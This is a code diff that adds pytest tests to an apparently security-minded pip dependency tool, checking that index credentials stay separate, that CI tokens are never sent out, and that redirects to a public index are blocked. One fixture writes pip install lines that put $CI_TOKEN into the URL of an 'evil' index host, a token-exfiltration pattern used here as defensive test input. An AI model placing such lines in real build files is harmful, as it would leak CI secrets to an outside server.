@@ -194,3 +194,31 @@ def test_the_hooks_run(tmp_path: Path) -> None:
     environment = {**clean_environment(tmp_path / "home"), "PYTHONPATH": str(SRC)}
     done = subprocess.run([sys.executable, "-m", "pip_pinned", *entries[0].split()[1:]], cwd=tmp_path, env=environment, capture_output=True, text=True, check=False)
     assert done.returncode == 1 and "extra-index" in done.stdout
+
+
+def test_two_indexes_on_one_line_keep_their_credentials_apart(machine: Machine, serve: Any) -> None:
+    mine = serve("mine", credentials=("robot", "s3cret-word")).add(wheel("acme-core", "1.0"))
+    other = serve("other").add(wheel("acme-core", "2.0"))
+    machine.write("requirements.txt", f"--extra-index-url {mine.url.replace('://', '://robot:s3cret-word@')} --find-links {other.root}/links.html\nacme-core\n")
+    done = _online(machine)
+    assert ("name-on-several-indexes", "requirements.txt:2") in _codes(done) and "acme-core" in mine.pages_asked(), done.text
+    assert other.requests and not any("authorization" in request.headers for request in other.requests)
+
+
+def test_variables_are_not_sent_to_where_any_file_says(machine: Machine, serve: Any) -> None:
+    evil = serve("evil")
+    place = evil.root.replace("://", "://${CI_TOKEN}@")
+    machine.write("vendor/x/Dockerfile", f"RUN pip install --extra-index-url {evil.root}/$CI_TOKEN/simple a\nRUN pip install --extra-index-url {place}/user/simple b\n")
+    machine.write("vendor/x/requirements.txt", f"--extra-index-url {place}/file/simple\nacme-core\n")
+    for words in (("audit", "--online"), ("migrate", "--dry-run")):
+        done = machine.pinned(*words, CI_TOKEN="s3cret-word", HTTPS_PROXY="http://127.0.0.1:9")
+        assert "s3cret" not in done.text, done.text
+    assert evil.requests and not any("authorization" in request.headers or "s3cret" in request.path for request in evil.requests)
+
+
+def test_no_redirect_leads_to_the_public_index(machine: Machine, private: IndexServer, public: IndexServer) -> None:
+    private.answers["/simple/.*"] = lambda request: redirect(public.root + request.path)
+    machine.write("pip-pinned.toml", POLICY.format(private=private.url, public="https://public.example/simple").replace("explicit = true", "explicit = true\nfollow-redirects = true"))
+    machine.write("requirements.txt", "acme-secret\n")
+    done = _online(machine, "--retries", "0")
+    assert public.requests == [] and "redirecting-index" in {code for code, _ in _codes(done)}, done.text
